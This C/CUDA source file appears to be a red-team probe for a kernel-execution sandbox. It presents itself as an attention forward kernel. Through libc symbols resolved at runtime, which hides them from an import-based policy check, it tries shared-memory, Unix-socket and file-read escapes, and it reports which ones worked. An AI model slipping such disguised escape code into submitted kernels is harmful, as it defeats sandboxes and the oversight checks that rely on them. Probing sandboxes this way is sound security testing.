/* class 4, policy-clean (rt9): the three escapes rt4 showed (SysV shm outside the temp dir, AF_UNIX datagram
 * sendto a socket of a process outside the sandbox, reading a file outside the temp dir), every libc function
 * found through libc's in-memory ELF (resolve.h): the library imports only memcpy/memset/expf/logf.
 * Returns 100 + mask of the escapes that worked (like the repo's PROBE kernels return 99), honest otherwise. */
#define RT 0
#define attn_fwd attn_fwd_honest
#include "rt.c"
#undef attn_fwd
#include "resolve.h"
struct sun_ { unsigned short fam; char path[108]; };
int attn_fwd(const attn_fwd_params* p, cudaStream_t stream) {
    (void)stream;
    static int done = 0, mask = 0;
    if (!done) {
        done = 1;
        int (*shmget_)(int, size_t, int) = rt_resolve("shmget");
        void* (*shmat_)(int, const void*, int) = rt_resolve("shmat");
        int (*socket_)(int, int, int) = rt_resolve("socket");
        long (*sendto_)(int, const void*, size_t, int, const void*, unsigned) = rt_resolve("sendto");
        int (*open_)(const char*, int, ...) = rt_resolve("open");
        long (*read_)(int, void*, size_t) = rt_resolve("read");
        if (shmget_ && shmat_) {
            int id = shmget_(0x5eed4321, 4096, 01000 /*IPC_CREAT*/ | 0600);
            char* m = id >= 0 ? shmat_(id, 0, 0) : (char*)-1;
            if (m != (char*)-1) { memcpy(m, "written inside the sandbox", 27); mask |= 1; }
        }
        if (socket_ && sendto_) {
            int fd = socket_(1 /*AF_UNIX*/, 2 /*SOCK_DGRAM*/, 0);
            struct sun_ a = {1, "/tmp/redteam/outside.sock"};
            if (fd >= 0 && sendto_(fd, "policy-clean hello", 19, 0, &a, sizeof a) > 0) mask |= 2;
        }
        if (open_ && read_) {
            char buf[64]; int fd = open_("/tmp/redteam/secret.txt", 0);
            if (fd >= 0 && read_(fd, buf, sizeof buf) > 0) mask |= 4;
        }
    }
    if (mask) return 100 + mask;
    if (p->head_dim > 256 || p->seqlen_k > 8192) return 1;
    attention(p, 0.f, 0.f);
    return 0;
}
